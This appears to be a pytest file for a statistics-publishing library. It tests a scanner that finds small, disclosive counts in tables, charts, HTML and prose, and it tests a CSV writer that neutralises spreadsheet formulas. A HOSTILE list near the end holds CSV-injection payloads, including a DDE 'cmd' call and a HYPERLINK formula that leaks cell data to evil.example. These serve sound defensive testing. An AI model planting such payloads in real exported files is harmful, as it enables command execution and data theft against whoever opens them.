"""The disclosure scanner (snalib.publish.scan) and formula-safe CSVs (publish.tables).

The scanner must find what a reviewer could read off the published files: a small count in
a table, in a chart's data, on a chart, in prose, and a percentage that reveals one. And it
must stay quiet on what discloses nothing (zeros, symbols, large counts, percentages that do
not pin a count down, record accounting declared as such).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import matplotlib.pyplot as plt
import pandas as pd
import pytest

from snalib.csvsafe import formula_safe, neutralise_formula
from snalib.publish.run import RunContext
from snalib.publish.scan import (
    Table,
    Thresholds,
    implied_small_count,
    looks_like_count,
    scan_run,
    scan_table,
    scan_text,
)
from snalib.publish.style import use_style
from snalib.publish.tables import figure_bytes, write_csv
from tests.chapter_runs import write_run

T = Thresholds(threshold=5, hes_threshold=8)


def _run_dir(tmp_path: Path, threshold: int = 5) -> Path:
    """A run directory of the handwritten fixture's parameters, with this threshold."""
    run = tmp_path / "run"
    write_run(run)
    params = json.loads((run / "params.json").read_text())
    params["disclosure"]["threshold"] = threshold
    (run / "params.json").write_text(json.dumps(params))
    return run


# --------------------------------------------------------------------------- percentages


@pytest.mark.parametrize(
    ("percent", "total", "expected"),
    [
        ("0.04", 6823, 3),  # 0.035%..0.045% of 6,823 is 2.4..3.1: only 3
        ("0.4", 750, 3),  # 0.35%..0.45% of 750 is 2.6..3.4: only 3
        ("1", 200, 3),  # 0.5%..1.5% of 200 is 1..3: every count it could be is small
        ("10.3", 6823, None),  # 702: not small
        ("0.0", 6823, None),  # could be 0
        ("50", 4, None),  # a total below the threshold is itself suppressed, never read
        ("100", 3, None),
    ],
)
def test_a_percentage_reveals_a_count_only_when_its_rounding_pins_a_small_one(
    percent, total, expected
):
    assert implied_small_count(percent, total, 5) == expected


def test_column_names_that_hold_counts_are_recognised():
    for name in ["count", "records", "referrals", "count_current", "rows_in", "excluded"]:
        assert looks_like_count(name), name
    for name in ["rate_ratio", "lower95", "engagement_pct", "financial_year", "step_number"]:
        assert not looks_like_count(name), name


# --------------------------------------------------------------------------- tables


def test_small_counts_in_a_count_column_are_found_and_zero_and_symbols_are_not():
    table = Table(
        "tables/x.csv",
        ["district", "count"],
        [["North", "0"], ["South", "[c]"], ["East", "3"], ["West", "1,250"]],
    )
    findings = scan_table(table, T)
    assert [(f.where, f.value) for f in findings] == [("row 3, column count", "3")]


def test_declared_count_columns_are_read_whatever_their_name():
    table = Table("tables/x.csv", ["period", "Knife crime"], [["Apr 2021", "2"]], {"Knife crime"})
    assert len(scan_table(table, T)) == 1
    undeclared = Table("tables/x.csv", ["period", "Knife crime"], [["Apr 2021", "2"]])
    assert scan_table(undeclared, T) == []


def test_hes_rows_are_judged_by_the_hes_threshold():
    table = Table(
        "tables/m.csv",
        ["measure", "source", "count"],
        [["admissions", "hes", "7"], ["knife", "police", "7"], ["admissions", "hes", "8"]],
    )
    findings = scan_table(table, T)
    assert [f.where for f in findings] == ["row 1, column count"]


def test_a_percentage_beside_the_total_in_a_key_facts_table_is_found():
    """The key-facts leak of issue 9: the knife count withheld, its share published."""
    table = Table(
        "tables/key_facts.csv",
        ["fact", "value", "note"],
        [
            ["Serious violence in 2021/22", "6,823", "up 29.9% on the previous year (5,252)"],
            ["Knife or sharp instrument involved", "[c]", "0.04% of serious violence"],
        ],
    )
    findings = scan_table(table, T)
    assert len(findings) == 1
    assert findings[0].where == "row 2, column note"
    assert "reveals a count of 3" in findings[0].reason
    safe = Table("k", table.header, [table.rows[0], [table.rows[1][0], "[c]", "[c]"]])
    assert scan_table(safe, T) == []


def test_a_percentage_column_against_a_count_in_the_same_row():
    rows = [["A", "750", "0.4"], ["B", "750", "40.0"]] + [["C", "100", "50"]] * 60
    table = Table("tables/p.csv", ["name", "referrals", "completion_pct"], rows)
    findings = scan_table(table, T)
    assert [f.where for f in findings] == ["row 1, column completion_pct"]


def test_record_accounting_declared_as_such_is_not_read_as_counts():
    rows = [["ed_attendances", "60961", "60960", "0", "1"]]
    header = ["source", "rows_in", "included", "excluded", "rejected"]
    assert len(scan_table(Table("t", header, rows), T)) == 1
    assert scan_table(Table("t", header, rows, declared_none=True), T) == []


# --------------------------------------------------------------------------- prose


@pytest.mark.parametrize(
    "text",
    [
        "There were 3 knife crimes in Northam.",
        "Two young people were admitted.",
        "In 2021/22, 4 homicides were recorded.",
        "2 of 112 crimes have no recorded hour.",
        "3 out of 1,250 serious violence crimes involved a firearm.",
        "Serious violence: 6,823 crimes, of which 0.04% involved a knife.",
    ],
)
def test_small_counts_in_prose_are_found(text):
    assert scan_text(text, "sna/index.html", "text", 5), text


@pytest.mark.parametrize(
    "text",
    [
        "Chapter 3 shows 6,823 crimes in 2021/22.",
        "Counts from 1 to 4 are suppressed; rates need 10 events.",
        "The model has 11 month terms and 3 step changes.",
        "Knife crime was 10.3% of 6,823 crimes.",
        "The rate was 4.2 per 1,000 residents.",
        "0 homicides were recorded.",
        "With 6 admissions, a fall of 50% would have been detected 4 times in 5.",
        "The 95% interval of the rate ratio (20 crimes) includes 1; 80% power.",
        "Serious violence (6 crimes) changed by +50.0%, up 50% on the previous year.",
    ],
)
def test_prose_that_discloses_nothing_is_not_flagged(text):
    assert scan_text(text, "sna/index.html", "text", 5) == [], text


# --------------------------------------------------------------------------- a whole run


def _bar_chart_svg(label_value: int) -> bytes:
    use_style()
    fig, ax = plt.subplots()
    bars = ax.bar(["North", "South"], [120, label_value])
    ax.bar_label(bars)
    ax.set_title("Most serious violence was in North")
    svg, _ = figure_bytes(fig)
    plt.close(fig)
    return svg


def test_scan_run_passes_a_clean_run_and_fails_a_deliberately_unsuppressed_one(tmp_path):
    run_dir = _run_dir(tmp_path)
    run = RunContext(run_dir)
    frame = pd.DataFrame({"district": ["North", "South"], "count": [120, 3]})
    run.publish_table(frame, "districts", caption="By district", counts=["count"])
    assert scan_run(run_dir) == []  # publish_table suppressed the 3

    # A chapter that forgets to declare its counts: the scanner still reads "count".
    write_csv(frame, run_dir / "tables" / "forgot.csv")
    findings = scan_run(run_dir)
    assert [(f.path, f.where, f.value) for f in findings] == [
        ("tables/forgot.csv", "row 2, column count", "3")
    ]


def test_scan_run_reads_chart_labels_but_not_axis_ticks(tmp_path):
    """A chart saved without publish_figure (which refuses to print a withheld count): the
    scanner reads the label on the bar, and not the numbers of the axis."""
    run_dir = _run_dir(tmp_path)
    (run_dir / "figures").mkdir()
    (run_dir / "figures" / "bars.svg").write_bytes(_bar_chart_svg(3))
    findings = scan_run(run_dir)
    assert [(f.path, f.value) for f in findings] == [("figures/bars.svg", "3")]
    (run_dir / "figures" / "bars.svg").write_bytes(_bar_chart_svg(30))
    assert scan_run(run_dir) == []  # ticks 0, 20, 40... and the label 30 are not findings


def test_scan_run_reads_html_pages(tmp_path):
    run_dir = _run_dir(tmp_path)
    page = run_dir / "sna" / "index.html"
    page.parent.mkdir()
    page.write_text(
        "<html><body><p>In 2021/22 there were 6,823 serious violence crimes.</p>"
        "<pre><code>threshold = 3 crimes</code></pre>"
        '<table id="tbl-x"><tr><th>District</th><th>Count</th></tr>'
        "<tr><td>North</td><td>2</td></tr></table>"
        "<p>Of these, 0.04% involved a knife.</p></body></html>"
    )
    findings = scan_run(run_dir)
    assert sorted(f.where for f in findings) == ["row 1, column Count"]  # code is not prose
    page.write_text("<p>There were 6,823 serious violence crimes; 0.04% involved a knife.</p>")
    assert [f.reason for f in scan_run(run_dir)] == ["the percentage reveals a count of 3"]


# --------------------------------------------------------------------------- formula-safe CSVs

HOSTILE = [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value):
    safe = neutralise_formula(value)
    assert safe == "'" + value.replace("\r", "\n")


@pytest.mark.parametrize(
    "value", ["-2.5", "+3", "1,234", "-1e-05", "Detached youth work", "", "50%"]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_write_csv_neutralises_text_columns_and_headers_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "intervention": HOSTILE,
            "change": [-1.5, 2, -3, 4, 5, 6],
            "=bad header": ["x"] * 6,
            "group": pd.Categorical(["=a", "b", "c", "d", "e", "f"]),
        }
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["intervention", "change", "'=bad header", "group"]
    for row in rows[1:]:
        for cell in row:
            assert not (cell[:1] in "=+@\t\r\n" and cell), cell
            assert not (cell.startswith("-") and not _is_number(cell)), cell
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0"]
    assert rows[1][0] == "'+cmd|' /C calc'!A0"
    assert formula_safe(frame)["change"].dtype == frame["change"].dtype


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True
